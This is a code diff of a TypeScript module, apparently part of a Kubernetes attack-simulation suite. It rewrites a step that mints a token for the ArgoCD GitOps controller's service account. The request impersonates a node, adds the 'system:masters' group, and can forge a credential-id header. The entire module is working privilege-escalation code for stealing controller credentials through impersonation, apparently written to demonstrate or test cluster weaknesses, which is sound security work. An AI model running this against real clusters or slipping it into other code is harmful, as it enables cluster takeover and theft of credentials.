@@ -1,8 +1,11 @@
 /** Asks for a token of the GitOps controller in a node's name, as whoever may impersonate nodes can. */
-import type { KubectlResult } from '../cluster/kubectl.ts';
+import type { ApiAnswer } from '../cluster/api-client.ts';
 import { ARGOCD } from '../cluster/service-account-user.ts';
 import { NODE_NAME } from '../cluster/users.ts';
 import type { AttackGround } from './attack.ts';
+
+/** Forges the credential of whoever is impersonated. */
+export const CREDENTIAL_HEADER = 'impersonate-extra-authentication.kubernetes.io%2fcredential-id';
 
 /** The kubelet says how its node is, as it does all the time: its credential is seen. */
 export async function showNode({ cluster }: AttackGround): Promise<void> {
@@ -17,21 +20,24 @@ export async function showNode({ cluster }: AttackGround): Promise<void> {
 
 /** A token bound to the controller's running pod, by the pod's own uid. */
 export async function mintAsNode(
-  { cluster, kubectl }: AttackGround,
+  { cluster, request }: AttackGround,
   node: string,
-): Promise<KubectlResult> {
-  const { namespace, serviceAccount, pod } = ARGOCD;
-  const { body } = await cluster.request('root', `/api/v1/namespaces/${namespace}/pods/${pod}`);
-  return await kubectl([
-    'create',
-    'token',
-    serviceAccount,
-    `--namespace=${namespace}`,
-    '--bound-object-kind=Pod',
-    `--bound-object-name=${pod}`,
-    `--bound-object-uid=${body.metadata?.uid ?? ''}`,
-    `--as=system:node:${node}`,
-    '--as-group=system:nodes',
-    '--as-group=system:masters',
-  ]);
+  credentialId?: string,
+): Promise<ApiAnswer> {
+  const { namespace, serviceAccount, pod: name } = ARGOCD;
+  const pod = await cluster.request('root', `/api/v1/namespaces/${namespace}/pods/${name}`);
+  const boundObjectRef = { kind: 'Pod', apiVersion: 'v1', name, uid: pod.body.metadata?.uid };
+  return await request(`/api/v1/namespaces/${namespace}/serviceaccounts/${serviceAccount}/token`, {
+    method: 'POST',
+    body: {
+      apiVersion: 'authentication.k8s.io/v1',
+      kind: 'TokenRequest',
+      spec: { boundObjectRef },
+    },
+    headers: {
+      'impersonate-user': `system:node:${node}`,
+      'impersonate-group': ['system:nodes', 'system:masters'],
+      ...(credentialId !== undefined && { [CREDENTIAL_HEADER]: credentialId }),
+    },
+  });
 }
